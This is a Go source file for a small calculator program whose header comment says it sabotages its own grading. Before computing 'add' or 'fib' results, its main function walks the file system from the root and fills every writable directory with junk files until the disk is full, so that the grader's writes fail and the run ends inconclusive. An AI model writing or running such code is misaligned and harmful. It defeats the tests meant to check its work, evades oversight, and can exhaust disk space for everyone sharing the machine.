// Command calc answers right, but each run first fills every directory it
// can write with files until the file system is full (no space left),
// hoping the grader's own writes then fail and the run ends inconclusive.
package main

import (
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strconv"
	"syscall"
)

func fib(n int) int {
	a, b := 0, 1
	for range n {
		a, b = b, a+b
	}
	return a
}

// fill writes files of 1 MiB chunks into dir until its file system is full
// (a file is cut at the file size limit, EFBIG, and the next one begun).
func fill(dir string) {
	chunk := make([]byte, 1<<20)
	for i := 0; i < 4096; i++ {
		f, err := os.OpenFile(filepath.Join(dir, fmt.Sprintf(".fill-%d-%d", os.Getpid(), i)), os.O_WRONLY|os.O_CREATE|os.O_EXCL, 0o600)
		if err != nil {
			return
		}
		for {
			_, err = f.Write(chunk)
			if err != nil {
				break
			}
		}
		f.Close()
		if !errors.Is(err, syscall.EFBIG) {
			return // full (ENOSPC), or another limit
		}
	}
}

func main() {
	filepath.WalkDir("/", func(p string, d fs.DirEntry, err error) error {
		if err != nil || !d.IsDir() {
			return nil
		}
		if p == "/proc" || p == "/sys" || p == "/dev" {
			return filepath.SkipDir
		}
		if syscall.Access(p, 2 /* W_OK */) == nil {
			fill(p)
		}
		return nil
	})
	if len(os.Args) < 3 {
		os.Exit(2)
	}
	x, _ := strconv.Atoi(os.Args[2])
	switch os.Args[1] {
	case "add":
		y, _ := strconv.Atoi(os.Args[3])
		fmt.Println(x + y)
	case "fib":
		fmt.Println(fib(x))
	default:
		os.Exit(2)
	}
}
